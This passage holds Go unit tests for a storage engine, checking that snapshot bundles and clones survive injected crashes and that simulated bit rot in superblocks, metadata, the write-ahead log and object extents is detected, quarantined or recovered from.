		t.Fatalf("bundle after checkpointed remount = %+v, %v", info, ok)
	}
	if err := s2.CloneObject(lineage, 1, 5); err != nil {
		t.Fatal(err)
	}
	if got, err := s2.Get(5); err != nil || !bytes.Equal(got, bundlePayload(1, 1024)) {
		t.Fatalf("clone from remounted bundle = %d bytes, %v", len(got), err)
	}
}

func TestBundleRetentionFloor(t *testing.T) {
	s, _ := testStore(t)
	if s.bundleRetentionFloor(10) != ^uint64(0) {
		t.Fatal("empty bundle table should not constrain reclamation")
	}
	if err := s.Put(1, []byte("pinned")); err != nil {
		t.Fatal(err)
	}
	lineage, err := s.SnapshotBundle("floor", []uint64{1})
	if err != nil {
		t.Fatal(err)
	}
	info, _ := s.BundleByLineage(lineage)
	e := info.Epoch
	// The capture generation must be retained until two later snapshots
	// committed (finishing epoch E+2), and released after.
	if got := s.bundleRetentionFloor(e + 1); got != e {
		t.Fatalf("floor at epoch %d = %d, want %d", e+1, got, e)
	}
	if got := s.bundleRetentionFloor(e + 2); got != ^uint64(0) {
		t.Fatalf("floor at epoch %d = %d, want none", e+2, got)
	}
}

// --- crash matrix over snapshot/clone workloads ----------------------------

// bundleCrashModel tracks what the bundle workload committed before a crash.
type bundleCrashModel struct {
	m             *refModel
	lineage       uint64 // expected lineage (deterministic, from clean pass)
	bundleDurable bool
}

// runBundleWorkload drives the fixed snapshot/clone/cleaner sequence until
// the armed fault fires, keeping the model in step.  The sequence covers the
// matrix cases: crash mid-snapshot (inside the capture checkpoint or the WAL
// bundle record), mid-clone (inside the clone record commit), and
// mid-cleaner-with-live-bundle (the checkpoints after the source deletes).
func runBundleWorkload(t *testing.T, s *Store, bm *bundleCrashModel) bool {
	t.Helper()
	fault := func(err error) bool {
		if err == nil {
			return false
		}
		if errors.Is(err, disk.ErrFault) {
			return true
		}
		t.Fatalf("bundle workload op failed with non-fault error: %v", err)
		return true
	}
	src := func(i uint64) objState {
		return objState{exists: true, data: bundlePayload(i, 900+int(i)), lbl: rotLabel(i), hasLabel: true}
	}
	for i := uint64(1); i <= 6; i++ {
		st := src(i)
		if fault(s.PutLabeled(i, st.lbl, st.data)) {
			return true
		}
		bm.m.push(i, st)
		if fault(s.SyncObject(i)) {
			return true
		}
		bm.m.commit(i)
	}
	lineage, err := s.SnapshotBundle("crash-img", []uint64{1, 2, 3, 4, 5, 6})
	if fault(err) {
		return true
	}
	if bm.lineage != 0 && lineage != bm.lineage {
		t.Fatalf("lineage not deterministic across replays: %#x != %#x", lineage, bm.lineage)
	}
	bm.lineage, bm.bundleDurable = lineage, true
	bm.m.commitAll() // SnapshotBundle checkpointed
	for i := uint64(1); i <= 3; i++ {
		if fault(s.CloneObject(lineage, i, 100+i)) {
			return true
		}
		bm.m.push(100+i, src(i))
		bm.m.commit(100 + i) // clone records are committed on return
	}
	// Diverge one clone: its rewrite must not bleed into the bundle.
	re := objState{exists: true, data: []byte("rewritten-101"), lbl: rotLabel(1), hasLabel: true}
	if fault(s.Put(101, re.data)) {
		return true
	}
	bm.m.push(101, re)
	if fault(s.SyncObject(101)) {
		return true
	}
	bm.m.commit(101)
	// Delete sources while the bundle lives, then checkpoint twice: the
	// cleaner and deferred-free path run against pinned extents.
	for _, i := range []uint64{4, 5} {
		if fault(s.Delete(i)) {
			return true
		}
		bm.m.push(i, objState{exists: false})
	}
	for round := 0; round < 2; round++ {
		if fault(s.Checkpoint()) {
			return true
		}
		bm.m.commitAll()
	}
	// A clone of a deleted source: only the bundle pin keeps these bytes.
	if fault(s.CloneObject(lineage, 4, 104)) {
		return true
	}
	bm.m.push(104, src(4))
	bm.m.commit(104)
	return false
}

// verifyBundleRecovery checks the reopened image: every committed object and
// clone via the generic model, then the bundle itself — if its capture was
// reported durable it must be present and still cloneable with exact bytes.
// Whether or not the capture completed, a lineage that resolves must never
// serve wrong bytes.
func verifyBundleRecovery(t *testing.T, dev disk.Device, bm *bundleCrashModel, point string) {
	t.Helper()
	s := verifyRecovery(t, dev, bm.m, point)
	if t.Failed() {
		return
	}
	if bm.lineage == 0 {
		return // crashed before the clean pass could even learn the lineage
	}
	_, present := s.BundleByLineage(bm.lineage)
	if bm.bundleDurable && !present {
		t.Errorf("%s: committed bundle %#x lost", point, bm.lineage)
		return
	}
	if !present {
		return
	}
	if err := s.ValidateBundle(bm.lineage); err != nil {
		t.Errorf("%s: recovered bundle fails validation: %v", point, err)
		return
	}
	// Object 6 is never deleted or rewritten by the workload, so a fresh
	// clone of it must reproduce the captured bytes exactly.
	if err := s.CloneObject(bm.lineage, 6, 900); err != nil {
		t.Errorf("%s: clone from recovered bundle: %v", point, err)
		return
	}
	want := bundlePayload(6, 906)
	got, err := s.Get(900)
	if err != nil || !bytes.Equal(got, want) {
		t.Errorf("%s: clone from recovered bundle = %d bytes, %v; want %d bytes", point, len(got), err, len(want))
	}
}

// TestCrashDuringBundleOpsEveryPoint replays the snapshot/clone workload
// with a fault injected at every write boundary a fault-free pass recorded
// (plus torn midpoints), reopening and verifying each time: no committed
// snapshot or clone is lost, no shared extent is reclaimed while referenced,
// and recovered bundles clone back byte-exact.
func TestCrashDuringBundleOpsEveryPoint(t *testing.T) {
	// Fault-free pass: learn the write boundaries and the lineage.
	s, fd := newCrashRig(t)
	fd.Arm(-1, disk.FaultTorn)
	clean := &bundleCrashModel{m: newRefModel()}
	if runBundleWorkload(t, s, clean) {
		t.Fatal("fault-free bundle pass crashed")
	}
	verifyBundleRecovery(t, fd.Inner(), clean, "clean")
	if t.Failed() {
		return
	}
	points := crashPoints(fd.WriteBounds())
	if testing.Short() {
		// Every third point still lands inside snapshots, clones, and the
		// cleaner checkpoints.
		thin := points[:0]
		for i, p := range points {
			if i%3 == 0 {
				thin = append(thin, p)
			}
		}
		points = thin
	}
	for _, mode := range []disk.FaultMode{disk.FaultTorn, disk.FaultOmit} {
		for _, pt := range points {
			s, fd := newCrashRig(t)
			fd.Arm(pt, mode)
			bm := &bundleCrashModel{m: newRefModel(), lineage: clean.lineage}
			crashed := runBundleWorkload(t, s, bm)
			if !crashed && fd.Tripped() {
				t.Fatalf("bundle %v@%d: fault tripped but no op reported it", mode, pt)
			}
			verifyBundleRecovery(t, fd.Inner(), bm, fmt.Sprintf("bundle %v@%d", mode, pt))
			if t.Failed() {
				return // one failing crash point is enough detail
			}
		}
	}
}

// --- bit-rot ladder over shared extents ------------------------------------

// TestBitRotSharedExtentQuarantinesEveryClone extends the rot ladder to
// bundles: damage in an extent shared by a bundle, its source, and several
// clones quarantines every referent with typed errors, refuses further
// clones, fails bundle validation — and never serves the bad bytes.
func TestBitRotSharedExtentQuarantinesEveryClone(t *testing.T) {
	s, fd := rotStore(t)
	data := bundlePayload(1, 8192)
	if err := s.PutLabeled(1, rotLabel(1), data); err != nil {
		t.Fatal(err)
	}
	if err := s.PutLabeled(2, rotLabel(2), bundlePayload(2, 512)); err != nil {
		t.Fatal(err)
	}
	lineage, err := s.SnapshotBundle("golden", []uint64{1, 2})
	if err != nil {
		t.Fatal(err)
	}
	clones := []uint64{11, 12, 13}
	for _, dst := range clones {
		if err := s.CloneObject(lineage, 1, dst); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	// Remount cold so reads come from the (rotted) extent, then damage the
	// shared extent with an odd flip count (deterministically detected).
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	off, ok := s2.objMap.Get(btree.K1(1))
	if !ok {
		t.Fatal("source has no home extent")
	}
	if err := fd.RotBits(disk.Region{Off: int64(off), Len: int64(len(data))}, 1, 21); err != nil {
		t.Fatal(err)
	}
	// First touch is through a CLONE: detection must propagate to the
	// source, the sibling clones, and the bundle entry.
	if _, err := s2.Get(11); !errors.Is(err, ErrQuarantined) || !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Get(clone) over rotted extent = %v", err)
	}
	for _, id := range []uint64{1, 12, 13} {
		gerr := func() error { _, err := s2.Get(id); return err }()
		if !errors.Is(gerr, ErrQuarantined) {
			t.Fatalf("referent %d of rotted extent = %v; want ErrQuarantined", id, gerr)
		}
		var qe *QuarantineError
		if !errors.As(gerr, &qe) || qe.ID != id {
			t.Fatalf("referent %d quarantine error untyped: %v", id, gerr)
		}
	}
	// Further clones of the rotted entry refuse, typed.
	if err := s2.CloneObject(lineage, 1, 14); !errors.Is(err, ErrQuarantined) {
		t.Fatalf("clone of rotted bundle entry = %v", err)
	}
	if _, err := s2.Get(14); !errors.Is(err, ErrNoSuchObject) {
		t.Fatalf("refused clone left a destination behind: %v", err)
	}
	// The lineage gate the kernel uses before a golden-image restore fails.
	if err := s2.ValidateBundle(lineage); !errors.Is(err, ErrQuarantined) {
		t.Fatalf("ValidateBundle over rotted extent = %v", err)
	}
	if info, _ := s2.BundleByLineage(lineage); info.Rotted != 1 {
		t.Fatalf("bundle rot accounting = %+v", info)
	}
	// The undamaged bundle entry keeps cloning.
	if err := s2.CloneObject(lineage, 2, 22); err != nil {
		t.Fatalf("clone of undamaged entry: %v", err)
	}
	if got, err := s2.Get(22); err != nil || !bytes.Equal(got, bundlePayload(2, 512)) {
		t.Fatalf("clone of undamaged entry = %d bytes, %v", len(got), err)
	}
	// A rewrite gives one clone fresh private contents and lifts only its
	// quarantine; its siblings stay typed-failed.
	if err := s2.Put(12, []byte("healed by rewrite")); err != nil {
		t.Fatal(err)
	}
	if got, err := s2.Get(12); err != nil || string(got) != "healed by rewrite" {
		t.Fatalf("rewritten clone = %q, %v", got, err)
	}
	if _, err := s2.Get(13); !errors.Is(err, ErrQuarantined) {
		t.Fatalf("sibling clone after rewrite = %v", err)
	}
}
