package store

// The bit-rot injection harness: silent single- and multi-bit corruption is
// injected into every on-disk structure (superblock copies, metadata header
// and sections, object extents, write-ahead log) and the tests assert the
// right rung of the degradation ladder fires — detection everywhere, backup
// superblock fallback, previous-snapshot-plus-retained-log fallback with
// zero committed-sync loss, index rebuild, and per-object quarantine.
//
// Injections use odd bit counts: CRC32C's generator polynomial has a factor
// of x+1, so every odd-weight error burst inside one checksummed span is
// detected with certainty, making these tests deterministic rather than
// probabilistic (RotBits may land two flips on the same bit, but an odd
// multiset always leaves an odd — hence nonzero and detectable — net flip).

import (
	"encoding/binary"
	"errors"
	"fmt"
	"testing"

	"histar/internal/btree"
	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

const (
	rotLogSize  = 128 << 10
	rotMetaSize = 256 << 10
)

// rotStore formats a store on a FaultDisk-wrapped 8 MB device.  Small
// segments put the checkpointed objects into the log-structured region, so
// the ladder's object-extent rungs exercise rot inside sealed segments.
func rotStore(t *testing.T) (*Store, *disk.FaultDisk) {
	t.Helper()
	base := disk.New(disk.Params{Sectors: 1 << 14, WriteCache: true}, &vclock.Clock{})
	fd := disk.NewFaultDisk(base)
	s, err := Format(fd, Options{LogSize: rotLogSize, MetaAreaSize: rotMetaSize, SegmentSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	return s, fd
}

func rotLabel(cat uint64) label.Label {
	return label.New(label.L1, label.P(label.Category(cat), label.L3))
}

// populateGenerations drives the store through the full lifecycle the
// fallback ladder depends on: a first checkpointed generation, a second
// generation synced then checkpointed (retained behind the log's rotation
// marker), and a tail of syncs in the current log generation.  Every
// mutation is synced, so recovery on any rung must reproduce the returned
// contents exactly.
func populateGenerations(t *testing.T, s *Store) map[uint64]string {
	t.Helper()
	want := make(map[uint64]string)
	put := func(id uint64, v string) {
		t.Helper()
		if err := s.PutLabeled(id, rotLabel(id%7), []byte(v)); err != nil {
			t.Fatal(err)
		}
		if err := s.SyncObject(id); err != nil {
			t.Fatal(err)
		}
		want[id] = v
	}
	for i := uint64(0); i < 10; i++ {
		put(i, fmt.Sprintf("gen0-object-%d", i))
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	for i := uint64(10); i < 20; i++ {
		put(i, fmt.Sprintf("gen1-object-%d", i))
	}
	put(0, "gen1-overwrite-of-object-0")
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	for i := uint64(20); i < 25; i++ {
		put(i, fmt.Sprintf("gen2-object-%d", i))
	}
	return want
}

func checkAll(t *testing.T, s *Store, want map[uint64]string) {
	t.Helper()
	for id, v := range want {
		got, err := s.Get(id)
		if err != nil || string(got) != v {
			t.Fatalf("object %d = %q, %v; want %q", id, got, err, v)
		}
	}
}

// metaPayloadLen reads the payload length out of a metadata area header.
func metaPayloadLen(t *testing.T, d disk.Device, areaOff int64) int64 {
	t.Helper()
	hdr := make([]byte, metaHeaderSize)
	if _, err := d.ReadAt(hdr, areaOff); err != nil {
		t.Fatal(err)
	}
	return int64(binary.LittleEndian.Uint64(hdr[mhPayloadOff:]))
}

// findSection walks a metadata area's section stream on disk and returns
// the device region of one section's payload.
func findSection(t *testing.T, d disk.Device, areaOff int64, wantTag uint64) disk.Region {
	t.Helper()
	payloadLen := metaPayloadLen(t, d, areaOff)
	payload := make([]byte, payloadLen)
	if _, err := d.ReadAt(payload, areaOff+metaHeaderSize); err != nil {
		t.Fatal(err)
	}
	off := int64(0)
	for off < payloadLen {
		tag := binary.LittleEndian.Uint64(payload[off:])
		slen := int64(binary.LittleEndian.Uint64(payload[off+8:]))
		off += 24
		if tag == wantTag {
			return disk.Region{Off: areaOff + metaHeaderSize + off, Len: slen}
		}
		off += slen
	}
	t.Fatalf("section %d not found in metadata area at %d", wantTag, areaOff)
	return disk.Region{}
}

// TestBitRotEveryCoveredFlipDetected is acceptance criterion (a): a single
// silent bit flip anywhere in the superblock copies or the referenced
// metadata area is always detected — the reopen either degrades (and still
// serves every committed object correctly) or counts the corruption; it
// never serves wrong data silently.
func TestBitRotEveryCoveredFlipDetected(t *testing.T) {
	type target struct {
		name   string
		region func(s *Store, fd *disk.FaultDisk) disk.Region
	}
	targets := []target{
		{"superblock-primary", func(*Store, *disk.FaultDisk) disk.Region {
			return disk.Region{Off: superblockOffset, Len: sbCopySize}
		}},
		{"superblock-backup", func(*Store, *disk.FaultDisk) disk.Region {
			return disk.Region{Off: superblockOffset + sbBackupOff, Len: sbCopySize}
		}},
		{"meta-header", func(s *Store, _ *disk.FaultDisk) disk.Region {
			return disk.Region{Off: s.metaAreaOff(s.metaWhich), Len: metaHeaderSize}
		}},
		{"meta-payload", func(s *Store, fd *disk.FaultDisk) disk.Region {
			areaOff := s.metaAreaOff(s.metaWhich)
			return disk.Region{Off: areaOff + metaHeaderSize, Len: metaPayloadLen(t, fd, areaOff)}
		}},
	}
	for _, tgt := range targets {
		tgt := tgt
		t.Run(tgt.name, func(t *testing.T) {
			for seed := int64(1); seed <= 8; seed++ {
				s, fd := rotStore(t)
				want := populateGenerations(t, s)
				if err := fd.RotBits(tgt.region(s, fd), 1, seed); err != nil {
					t.Fatal(err)
				}
				s2, err := Open(fd, Options{})
				if err != nil {
					t.Fatalf("seed %d: single flip in %s must stay mountable: %v", seed, tgt.name, err)
				}
				st := s2.IntegrityStats()
				if st.CorruptionsDetected == 0 && !st.Recovery.Degraded() {
					t.Fatalf("seed %d: flip in %s went undetected: %+v", seed, tgt.name, st.Recovery)
				}
				checkAll(t, s2, want)
			}
		})
	}
}

func TestBitRotSuperblockPrimaryFallsBackToBackup(t *testing.T) {
	s, fd := rotStore(t)
	want := populateGenerations(t, s)
	if err := fd.RotBits(disk.Region{Off: superblockOffset, Len: sbCopySize}, 5, 42); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	rep := s2.RecoveryReport()
	if !rep.SuperblockFallback {
		t.Fatalf("expected superblock fallback, got %+v", rep)
	}
	if rep.MetaFallback {
		t.Fatalf("metadata should not have needed fallback: %+v", rep)
	}
	checkAll(t, s2, want)
}

func TestBitRotBothSuperblockCopiesRefused(t *testing.T) {
	s, fd := rotStore(t)
	populateGenerations(t, s)
	_ = s
	if err := fd.RotBits(disk.Region{Off: superblockOffset, Len: sbCopySize}, 5, 1); err != nil {
		t.Fatal(err)
	}
	if err := fd.RotBits(disk.Region{Off: superblockOffset + sbBackupOff, Len: sbCopySize}, 5, 2); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(fd, Options{}); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("open with both superblock copies rotted = %v; want ErrCorrupt", err)
	}
}

// TestBitRotMetaFallbackZeroCommittedSyncLoss is acceptance criterion (b):
// when the referenced metadata area rots, Open falls back to the alternate
// (previous-checkpoint) snapshot and replays the retained log generation
// forward — every synced mutation from both generations survives.
func TestBitRotMetaFallbackZeroCommittedSyncLoss(t *testing.T) {
	s, fd := rotStore(t)
	want := populateGenerations(t, s)
	epoch := s.metaEpoch
	areaOff := s.metaAreaOff(s.metaWhich)
	if err := fd.RotBits(disk.Region{Off: areaOff, Len: mhCRCOff}, 3, 7); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	rep := s2.RecoveryReport()
	if !rep.MetaFallback {
		t.Fatalf("expected metadata fallback, got %+v", rep)
	}
	if rep.MetaEpoch != epoch-1 {
		t.Fatalf("fallback epoch = %d, want %d", rep.MetaEpoch, epoch-1)
	}
	// Retained generation (11 records) plus the current one (5 records).
	if rep.WALRecordsReplayed != 16 {
		t.Fatalf("replayed %d records, want 16", rep.WALRecordsReplayed)
	}
	checkAll(t, s2, want)
	// The degraded mount must heal itself: the next checkpoint rewrites
	// both the snapshot and the superblock, and a further reopen is clean.
	if err := s2.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	s3, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s3.RecoveryReport().Degraded() {
		t.Fatalf("reopen after healing checkpoint still degraded: %+v", s3.RecoveryReport())
	}
	checkAll(t, s3, want)
}

func TestBitRotBothMetaAreasRefused(t *testing.T) {
	s, fd := rotStore(t)
	populateGenerations(t, s)
	for which := 0; which < 2; which++ {
		if err := fd.RotBits(disk.Region{Off: s.metaAreaOff(which), Len: mhCRCOff}, 3, int64(which+1)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := Open(fd, Options{}); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("open with both metadata areas rotted = %v; want ErrCorrupt", err)
	}
}

// TestBitRotIndexSectionRebuiltNotFatal is acceptance criterion (c): rot
// confined to the fingerprint-index section neither fails the mount nor
// forces a snapshot fallback — the index is rebuilt from the label section.
func TestBitRotIndexSectionRebuiltNotFatal(t *testing.T) {
	s, fd := rotStore(t)
	want := populateGenerations(t, s)
	idx := findSection(t, fd, s.metaAreaOff(s.metaWhich), secIndex)
	if err := fd.RotBits(idx, 3, 99); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	rep := s2.RecoveryReport()
	if !rep.IndexRebuilt || rep.MetaFallback || rep.SuperblockFallback {
		t.Fatalf("expected only an index rebuild, got %+v", rep)
	}
	checkAll(t, s2, want)
	if err := s2.VerifyLabelIndex(); err != nil {
		t.Fatalf("rebuilt index inconsistent: %v", err)
	}
	for id, v := range want {
		ids := s2.ObjectsWithLabel(rotLabel(id % 7).Fingerprint())
		found := false
		for _, got := range ids {
			if got == id {
				found = true
			}
		}
		if !found {
			t.Fatalf("object %d (%q) missing from rebuilt index", id, v)
		}
	}
}

// TestBitRotDataExtentQuarantinesOnlyThatObject is acceptance criterion
// (d): rot in one object's home extent quarantines exactly that object with
// a typed error while every other object keeps serving.
func TestBitRotDataExtentQuarantinesOnlyThatObject(t *testing.T) {
	s, fd := rotStore(t)
	want := populateGenerations(t, s)
	if err := s.Checkpoint(); err != nil { // drain the log: cold reads come from extents
		t.Fatal(err)
	}
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	const victim = uint64(13)
	off, ok := s2.objMap.Get(btree.K1(victim))
	if !ok {
		t.Fatal("victim has no home extent")
	}
	size := s2.objSizes[victim]
	if err := fd.RotBits(disk.Region{Off: int64(off), Len: size}, 1, 5); err != nil {
		t.Fatal(err)
	}
	_, gerr := s2.Get(victim)
	if !errors.Is(gerr, ErrQuarantined) || !errors.Is(gerr, ErrCorrupt) {
		t.Fatalf("Get(victim) = %v; want ErrQuarantined matching ErrCorrupt", gerr)
	}
	var qe *QuarantineError
	if !errors.As(gerr, &qe) || qe.ID != victim {
		t.Fatalf("quarantine error does not identify the victim: %v", gerr)
	}
	// A repeated access answers from the quarantine verdict, still typed.
	if _, err := s2.Get(victim); !errors.Is(err, ErrQuarantined) {
		t.Fatalf("second Get(victim) = %v", err)
	}
	for id, v := range want {
		if id == victim {
			continue
		}
		got, err := s2.Get(id)
		if err != nil || string(got) != v {
			t.Fatalf("bystander object %d = %q, %v; want %q", id, got, err, v)
		}
	}
	if q := s2.QuarantinedObjects(); len(q) != 1 || q[0] != victim {
		t.Fatalf("QuarantinedObjects = %v; want [%d]", q, victim)
	}
	st := s2.IntegrityStats()
	if st.QuarantineEvents != 1 || st.QuarantinedNow != 1 || st.CorruptionsDetected == 0 {
		t.Fatalf("integrity stats = %+v", st)
	}
	// Syncing the quarantined object must refuse rather than persist
	// unverifiable bytes.
	if err := s2.SyncObject(victim); !errors.Is(err, ErrQuarantined) {
		t.Fatalf("SyncObject(victim) = %v; want ErrQuarantined", err)
	}
	// A rewrite replaces the damaged contents and lifts the quarantine.
	if err := s2.Put(victim, []byte("rewritten")); err != nil {
		t.Fatal(err)
	}
	if got, err := s2.Get(victim); err != nil || string(got) != "rewritten" {
		t.Fatalf("Get after rewrite = %q, %v", got, err)
	}
	if q := s2.QuarantinedObjects(); len(q) != 0 {
		t.Fatalf("quarantine not lifted by rewrite: %v", q)
	}
}

// TestBitRotWALTailReplaysValidPrefix: rot in the last committed log record
// is detected, the valid prefix replays, and the mount reports the damage.
func TestBitRotWALTailReplaysValidPrefix(t *testing.T) {
	s, fd := rotStore(t)
	for i := uint64(1); i <= 3; i++ {
		if err := s.Put(i, []byte(fmt.Sprintf("walled-%d", i))); err != nil {
			t.Fatal(err)
		}
		if err := s.SyncObject(i); err != nil {
			t.Fatal(err)
		}
	}
	// Locate the committed tail from the on-disk log header and damage the
	// last record.
	hdr := make([]byte, 16)
	if _, err := fd.ReadAt(hdr, logOffset); err != nil {
		t.Fatal(err)
	}
	committed := int64(binary.LittleEndian.Uint64(hdr[8:]))
	if committed < 32 {
		t.Fatalf("committed = %d, expected three records", committed)
	}
	tail := disk.Region{Off: logOffset + 32 + committed - 16, Len: 16}
	if err := fd.RotBits(tail, 1, 11); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	rep := s2.RecoveryReport()
	if !rep.WALDamaged {
		t.Fatalf("expected WAL damage report, got %+v", rep)
	}
	// The first two records precede the damage and must have replayed.
	for i := uint64(1); i <= 2; i++ {
		got, err := s2.Get(i)
		if err != nil || string(got) != fmt.Sprintf("walled-%d", i) {
			t.Fatalf("object %d from valid prefix = %q, %v", i, got, err)
		}
	}
	if _, err := s2.Get(3); !errors.Is(err, ErrNoSuchObject) {
		t.Fatalf("object in damaged suffix: %v (want ErrNoSuchObject)", err)
	}
	if s2.IntegrityStats().CorruptionsDetected == 0 {
		t.Fatal("WAL damage not counted")
	}
}

func TestScrubCleanStoreFindsNothing(t *testing.T) {
	s, _ := rotStore(t)
	want := populateGenerations(t, s)
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	st, err := s.Scrub()
	if err != nil {
		t.Fatal(err)
	}
	if st.CorruptionsFound != 0 || st.ObjectsQuarantined != 0 || st.IndexCorrupt {
		t.Fatalf("clean scrub found damage: %+v", st)
	}
	if st.SuperblockCopiesOK != 2 {
		t.Fatalf("superblock copies OK = %d, want 2", st.SuperblockCopiesOK)
	}
	if st.MetaAreasChecked != 2 || st.MetaAreasOK != 2 {
		t.Fatalf("meta areas checked/OK = %d/%d, want 2/2", st.MetaAreasChecked, st.MetaAreasOK)
	}
	if st.ObjectsChecked != len(want) || st.ObjectsUnverifiable != 0 {
		t.Fatalf("objects checked = %d (unverifiable %d), want %d", st.ObjectsChecked, st.ObjectsUnverifiable, len(want))
	}
	if st.BytesVerified == 0 {
		t.Fatal("scrub verified zero bytes")
	}
	is := s.IntegrityStats()
	if is.ScrubPasses != 1 || is.ScrubBytesVerified != uint64(st.BytesVerified) || is.LastScrub != st {
		t.Fatalf("scrub accounting: %+v", is)
	}
}

// TestScrubDetectsRotAndQuarantines: a scrub pass finds silently rotted
// extents before any access does, and quarantines them.
func TestScrubDetectsRotAndQuarantines(t *testing.T) {
	s, fd := rotStore(t)
	want := populateGenerations(t, s)
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(fd, Options{})
	if err != nil {
		t.Fatal(err)
	}
	const victim = uint64(4)
	off, _ := s2.objMap.Get(btree.K1(victim))
	if err := fd.RotBits(disk.Region{Off: int64(off), Len: s2.objSizes[victim]}, 1, 3); err != nil {
		t.Fatal(err)
	}
	st, err := s2.Scrub()
	if err != nil {
		t.Fatal(err)
	}
	if st.ObjectsQuarantined != 1 || st.CorruptionsFound != 1 {
		t.Fatalf("scrub after rot: %+v", st)
	}
	if q := s2.QuarantinedObjects(); len(q) != 1 || q[0] != victim {
		t.Fatalf("QuarantinedObjects = %v", q)
	}
	if _, err := s2.Get(victim); !errors.Is(err, ErrQuarantined) {
		t.Fatalf("Get(victim) after scrub = %v", err)
	}
	// A second pass finds the same damage but quarantines nothing new.
	st2, err := s2.Scrub()
	if err != nil {
		t.Fatal(err)
	}
	if st2.ObjectsQuarantined != 0 || st2.CorruptionsFound != 1 {
		t.Fatalf("second scrub: %+v", st2)
	}
	for id, v := range want {
		if id == victim {
			continue
		}
		if got, err := s2.Get(id); err != nil || string(got) != v {
			t.Fatalf("bystander %d = %q, %v", id, got, err)
		}
	}
}

// TestLegacyImageOpensAndUpgradesTransparently hand-crafts a pre-checksum
// (version-0) on-disk image — single-copy superblock, flat unsectioned
// metadata, version-2 log header — and proves it mounts read-correct,
// reports itself unverifiable to the scrubber, and is transparently
// rewritten in the current checksummed format by the next checkpoint.
func TestLegacyImageOpensAndUpgradesTransparently(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 14, WriteCache: true}, &vclock.Clock{})
	const (
		logSize  = int64(rotLogSize)
		metaSize = int64(rotMetaSize)
		legacyID = uint64(7)
	)
	dataStart := logOffset + logSize + 2*metaSize
	contents := []byte("legacy object contents")
	lbl := rotLabel(3)

	// Flat legacy metadata: (id, off, size) triples, free list, labels,
	// fingerprint index — no header, no checksums.
	var meta []byte
	meta = appendU64(meta, 1)
	meta = appendU64(meta, legacyID)
	meta = appendU64(meta, uint64(dataStart))
	meta = appendU64(meta, uint64(len(contents)))
	meta = appendU64(meta, 1)
	meta = appendU64(meta, uint64(dataStart+extentAlign))
	meta = appendU64(meta, uint64(d.Size()-(dataStart+extentAlign)))
	meta = appendU64(meta, 1)
	meta = appendU64(meta, legacyID)
	meta = lbl.AppendBinary(meta)
	meta = appendU64(meta, 1)
	meta = appendU64(meta, uint64(lbl.Fingerprint()))
	meta = appendU64(meta, legacyID)

	// Legacy superblock: five fields, zero tail, no backup copy.
	sb := make([]byte, superblockSize)
	binary.LittleEndian.PutUint64(sb[0:], superMagic)
	binary.LittleEndian.PutUint64(sb[8:], 0)
	binary.LittleEndian.PutUint64(sb[16:], uint64(len(meta)))
	binary.LittleEndian.PutUint64(sb[24:], uint64(logSize))
	binary.LittleEndian.PutUint64(sb[32:], uint64(metaSize))

	// Version-2 log header: sealed empty, pre-checksum format.
	walHdr := make([]byte, 16)
	binary.LittleEndian.PutUint32(walHdr[0:], 0x48574c4f) // "HWLO"
	walHdr[4] = 2

	for _, w := range []struct {
		off int64
		b   []byte
	}{{0, sb}, {logOffset, walHdr}, {logOffset + logSize, meta}, {dataStart, contents}} {
		if _, err := d.WriteAt(w.b, w.off); err != nil {
			t.Fatal(err)
		}
	}
	if err := d.Flush(); err != nil {
		t.Fatal(err)
	}

	s, err := Open(d, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !s.RecoveryReport().LegacyImage {
		t.Fatalf("legacy image not recognized: %+v", s.RecoveryReport())
	}
	if got, err := s.Get(legacyID); err != nil || string(got) != string(contents) {
		t.Fatalf("legacy object = %q, %v", got, err)
	}
	if got, ok := s.Label(legacyID); !ok || !got.Equal(lbl) {
		t.Fatalf("legacy label = %v, %v", got, ok)
	}
	st, err := s.Scrub()
	if err != nil {
		t.Fatal(err)
	}
	if st.SuperblockCopiesOK != 1 || st.ObjectsUnverifiable != 1 || st.CorruptionsFound != 0 {
		t.Fatalf("scrub of legacy image: %+v", st)
	}

	// The upgrade: one checkpoint rewrites the superblock (now dual-copy)
	// and metadata (now checksummed and sectioned) — and its CRC-backfill
	// pass reads and checksums the clean migrated extent, so the image
	// converges to fully verifiable without the object ever being dirtied.
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	st, err = s.Scrub()
	if err != nil {
		t.Fatal(err)
	}
	if st.SuperblockCopiesOK != 2 || st.MetaAreasOK != 1 || st.ObjectsUnverifiable != 0 || st.ObjectsChecked != 1 {
		t.Fatalf("scrub after upgrade checkpoint: %+v", st)
	}
	s2, err := Open(d, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s2.RecoveryReport().LegacyImage || s2.RecoveryReport().Degraded() {
		t.Fatalf("upgraded image still legacy/degraded: %+v", s2.RecoveryReport())
	}
	if got, err := s2.Get(legacyID); err != nil || string(got) != string(contents) {
		t.Fatalf("object after upgrade = %q, %v", got, err)
	}
	if got, ok := s2.Label(legacyID); !ok || !got.Equal(lbl) {
		t.Fatalf("label after upgrade = %v, %v", got, ok)
	}
